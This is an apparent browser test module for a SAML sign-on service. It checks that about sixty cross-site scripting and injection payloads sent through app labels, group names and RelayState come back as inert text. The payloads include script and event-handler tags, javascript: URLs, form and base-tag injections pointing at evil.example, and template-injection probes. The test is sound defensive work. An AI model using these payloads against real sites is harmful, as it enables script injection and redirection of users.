"""S3, A4: sixty payloads where the page between two sites repeats what others wrote. No script runs, the policy refuses nothing because
nothing is tried, and the form posts the octets as they were sent."""

import pytest

from apps.applications.actions import assign_group, update_application
from apps.directory.actions import add_group
from apps.tenants.context import in_tenant
from tests.browser.test_applications_send_people import arrived, provider, wiki  # noqa: F401 - fixtures
from tests.saml.service_provider import authn_request, redirect

SCRIPT = "alert(1)"
PAYLOADS = [
    f"<script>{SCRIPT}</script>", f"</script><script>{SCRIPT}</script>", f'"><script>{SCRIPT}</script>', f"'><script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>", f'"><img src=x onerror={SCRIPT}>', f"<svg onload={SCRIPT}>", f"<svg/onload={SCRIPT}>",
    f'" onfocus={SCRIPT} autofocus="', f"' onfocus={SCRIPT} autofocus='", f'" onmouseover="{SCRIPT}', f"` onload={SCRIPT} `",
    f"<body onload={SCRIPT}>", f"<iframe src=javascript:{SCRIPT}>", f'<iframe srcdoc="<script>{SCRIPT}</script>">',
    f"<object data=javascript:{SCRIPT}>", f"<embed src=javascript:{SCRIPT}>", f"<a href=javascript:{SCRIPT}>x</a>",
    f"javascript:{SCRIPT}", f"JaVaScRiPt:{SCRIPT}", f"java&#115;cript:{SCRIPT}", f"data:text/html,<script>{SCRIPT}</script>",
    f"<form action=javascript:{SCRIPT}><input type=submit>", f'"></form><form action=javascript:{SCRIPT}><input name=x>',
    "</form>", '<input name="SAMLResponse" value="x">', '"><input name="RelayState" value="second">', "<button formaction=//evil.example>x",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x>",
    "<style>*{background:url(//evil.example)}</style>", '" style="background:url(//evil.example)', "<!--", "-->", "<!-- <img --!> src=x>",
    "<![CDATA[", "]]>", "{{ 7|add:7 }}", "{% debug %}", "{% include 'base.html' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;&quot;&#x27;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)", "＜script＞alert(1)＜/script＞", "ʺ＞＜img src=x onerror=alert(1)＞",
    f"<details open ontoggle={SCRIPT}>", f"<video><source onerror={SCRIPT}>", f"<math><mtext><img src=x onerror={SCRIPT}>",
    f"<template><script>{SCRIPT}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<textarea></textarea><script>{SCRIPT}</script>", f"</title><script>{SCRIPT}</script>", "a=1&SAMLResponse=x&b=2", "  two  spaces ",
]  # fmt: skip


def test_there_are_sixty():
    assert len(set(PAYLOADS)) >= 60


@pytest.fixture
def careful(visit):
    """A window that complains about a dialog, too."""
    visitor = visit()
    visitor.page.on(
        "dialog", lambda dialog: (visitor.complaints.append(f"dialog: {dialog.message}"), dialog.dismiss())
    )
    return visitor


@pytest.mark.parametrize("part", range(6))
def test_a_payload_arrives_as_it_was_and_runs_nowhere(careful, provider, bob, wiki, tenant, system, part):  # noqa: F811
    careful.be(bob)
    for payload in PAYLOADS[part::6]:
        with in_tenant(tenant):
            update_application(wiki, actor=system, display_label=payload, description=payload)
        careful.page.goto(
            f"{provider.sso}?{redirect(authn_request(destination=provider.sso), relay_state=payload)}"
        )
        taken = arrived(careful, provider)
        assert taken["RelayState"] == [payload]
        assert len(taken["SAMLResponse"]) == 1
        assert set(taken) == {"RelayState", "SAMLResponse"}
    assert len(provider.taken) == len(PAYLOADS[part::6])


def test_the_page_that_refuses_repeats_them_as_text(careful, provider, alice, wiki, tenant, system):  # noqa: F811
    """The names of the groups that would open it, and the application's own."""
    with in_tenant(tenant):
        for number, payload in enumerate(PAYLOADS):  # folded, two of them are one
            assign_group(wiki, add_group(actor=system, name=f"{number} {payload}"), actor=system)
        update_application(wiki, actor=system, display_label=PAYLOADS[0])
    careful.be(alice)
    answer = careful.page.goto(f"{provider.portal}/t/acme/launch/wiki")
    assert answer.status == 403
    shown = careful.page.locator("main").inner_text()
    assert sum(payload.strip() in shown for payload in PAYLOADS) >= 5
    assert careful.refusals() == []
    assert [text for text in careful.complaints if "403" not in text] == []


def test_a_page_that_repeated_one_as_it_is_would_be_noticed(careful, provider):  # noqa: F811
    """Negative control: the window does hear a script, and the policy's refusal."""
    careful.page.goto("about:blank")
    with careful.page.expect_event("dialog"):
        careful.page.set_content(f"<p>{PAYLOADS[4]}</p>")
    assert careful.complaints
